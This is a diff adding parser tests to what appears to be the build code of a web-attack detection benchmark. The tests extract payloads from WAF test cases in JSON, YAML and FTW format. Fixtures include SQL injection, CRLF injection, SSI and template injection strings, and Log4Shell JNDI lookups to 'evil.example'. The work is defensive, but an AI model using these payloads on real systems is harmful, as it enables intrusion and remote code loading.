@@ -1,6 +1,6 @@
 import t from 'tap'
-import { codeLiterals, jsonStrings, parseCsic, stripNotes } from './eval/build.ts'
-import { FRESH_SOURCES, SOURCES } from './eval/sources.ts'
+import { codeLiterals, ftwValues, jsonFields, jsonStrings, parseCsic, stripNotes, yamlItems } from './eval/build.ts'
+import { FRESH2_SOURCES, FRESH_SOURCES, SOURCES } from './eval/sources.ts'
 import { asUrl, backupProbes, fragmentReason, hash32, partOf, placeAttack, placeBenign, queryValue } from './eval/place.ts'
 
 // The public evaluation's rules (test/insight/eval/): no network and no snapshot needed here.
@@ -104,4 +104,81 @@ t.test('the fresh sources are cut as written: notes, string literals, JSON value
   t.same(codeLiterals(`payloads = [r'%0d%0aSet-Cookie:a=b', "<!--#exec cmd=\\"id\\" -->", \`{{7*7}}\`]`), ['%0d%0aSet-Cookie:a=b', '<!--#exec cmd="id" -->', '{{7*7}}'])
   t.same(jsonStrings('{"description":"A list","names":["Ada Lovelace","Al",{"first":"Alan Turing"}]}', 3), ['Ada Lovelace', 'Alan Turing'])
   t.same(jsonStrings('not json', 1), [])
+})
+
+t.test('the second fresh part: sources none of the earlier parts uses, pinned, licences recorded', async (t) => {
+  const earlier = new Set([...SOURCES, ...FRESH_SOURCES].map((s) => s.repo))
+  t.ok(FRESH2_SOURCES.length > 0)
+  for (const s of FRESH2_SOURCES) {
+    t.notOk(earlier.has(s.repo), `${s.repo} is not a source of the halves or of the fresh part`)
+    t.match(s.commit, /^[0-9a-f]{40}$/, `${s.repo} is pinned by commit`)
+    t.ok(s.licence.length > 0, `${s.repo} has its licence recorded`)
+  }
+  t.equal(new Set(FRESH2_SOURCES.map((s) => s.repo)).size, FRESH2_SOURCES.length, 'each source listed once')
+})
+
+t.test('the second fresh sources are cut as written: WAF test cases in JSON and YAML', async (t) => {
+  // a test case's first zone present; a form's value under its generated name; a multi-line field gives its lines
+  const json = JSON.stringify({ payload: [{ ARGS: 'param%RND%=%27%20or%201%3D1--', BODY: 'x', ENCODE: 'Base64', BLOCKED: true }, { URL: '/.git/index', BLOCKED: true }, { ARGS: 'url=//evil.example&next=1' }, { code: '<a>\n<b onclick=x()>' }] })
+  t.same(jsonFields(json, ['URL', 'ARGS', 'code'], '%RND%|^url$'), ['%27%20or%201%3D1--', '/.git/index', '//evil.example', '<a>', '<b onclick=x()>'])
+  t.same(jsonFields(json, ['ARGS']), ['param%RND%=%27%20or%201%3D1--', 'url=//evil.example&next=1'], 'no param: the field as written')
+  t.same(jsonFields('not json', ['URL']), [])
+  const yaml = [
+    'payload:',
+    "  - '%0d%0aSet-Cookie:crlf=injection'",
+    '  - "a\\tb \\"q\\""',
+    "  - it''s plain # a comment",
+    '  - !!str |',
+    '    <?xml version="1.0"?>',
+    '  - "continued\\',
+    '    on the next line"',
+    'encoder:',
+    '  - URL',
+    'http:',
+    '  - method: GET',
+    '    payloads:',
+    '      escape:',
+    '        - "%0a"',
+    '    fuzzing:',
+    '      - part: query',
+  ].join('\n')
+  t.same(yamlItems(yaml, 'payload'), ['%0d%0aSet-Cookie:crlf=injection', 'a\tb "q"', "it''s plain"])
+  t.same(yamlItems(yaml, 'payloads'), ['%0a'], 'nested keys under the key, up to the next key as shallow')
+  t.ok(yamlItems(yaml).includes('URL'), 'without a key: every one-line item')
+})
+
+t.test('a WAF\'s regression tests: the values of the requests expected to be detected, not the harness\'s', async (t) => {
+  const ftw = [
+    'rule_id: 944150',
+    'tests:',
+    '  - test_id: 1',
+    '    stages:',
+    '      - input:',
+    '          headers:',
+    '            Host: localhost',
+    '            User-Agent: "OWASP CRS test agent ${jndi:ldap://evil.example/a}"',
+    '            Cookie: a=1; b=%27or%201',
+    '          method: GET',
+    '          uri: "/get?x=%24%7Bjndi%3Aldap%7D&y=2"',
+    '        output:',
+    '          log:',
+    '            expect_ids: [944150]',
+    '  - test_id: 2',
+    '    stages:',
+    '      - input:',
+    '          uri: "/post"',
+    '          data: "foo=bar;id&z=1"',
+    '        output:',
+    '          log:',
+    '            no_expect_ids: [944150]',
+    '  - test_id: 3',
+    '    stages:',
+    '      - input:',
+    '          uri: /post',
+    '          data: |',
+    '            <x>${jndi:dns://evil.example}</x>',
+    '        output:',
+    '          log_contains: id "944150"',
+  ].join('\n')
+  t.same(ftwValues(ftw), ['${jndi:ldap://evil.example/a}', '1', '%27or%201', '/get', '%24%7Bjndi%3Aldap%7D', '2', '/post', '<x>${jndi:dns://evil.example}</x>'])
 })
